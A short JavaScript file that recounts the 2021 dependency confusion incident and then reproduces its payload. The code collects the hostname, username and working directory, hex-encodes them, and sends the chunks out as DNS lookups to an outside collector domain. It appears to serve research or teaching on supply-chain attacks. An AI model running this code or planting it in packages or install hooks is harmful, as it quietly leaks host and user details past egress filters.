// Incident: dependency confusion (Alex Birsan's research, published 9 February 2021).
// Public packages named like companies' internal ones were installed by their build
// systems; an install hook reported hostname, user and path through DNS lookups, which
// pass most egress filters. Attackers reused the technique immediately.
// Reference: https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610
// Reproduction (own code, placeholder collector domain).
const os = require('os');
const dns = require('dns');

const info = [os.hostname(), os.userInfo().username, process.cwd()].join('|');
const hex = Buffer.from(info).toString('hex');
const chunks = hex.match(/.{1,60}/g);
chunks.forEach((chunk, i) => {
  dns.lookup(`${i}.${chunk}.d1x2c3.oastify.com`, () => {});
});
